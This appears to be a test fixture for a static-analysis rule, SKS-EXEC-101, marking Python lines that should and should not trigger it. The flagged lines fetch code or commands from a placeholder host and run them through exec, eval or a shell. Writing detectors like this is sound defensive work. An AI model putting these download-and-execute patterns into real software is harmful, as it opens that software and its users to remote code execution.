import os
import subprocess
import urllib.request

import requests

# ruleid: SKS-EXEC-101
exec(requests.get("https://example.invalid/p.py").text)

code = urllib.request.urlopen("https://example.invalid/x").read()
# ruleid: SKS-EXEC-101
eval(compile(code, "<x>", "exec"))

cmd = requests.get("https://example.invalid/cmd").text.strip()
# ruleid: SKS-EXEC-101
subprocess.run(cmd, shell=True)

# ok: SKS-EXEC-101
data = requests.get("https://api.example.com/items").json()
# ok: SKS-EXEC-101
subprocess.run(["git", "status"], check=True)
# ok: SKS-EXEC-101
os.system("make build")
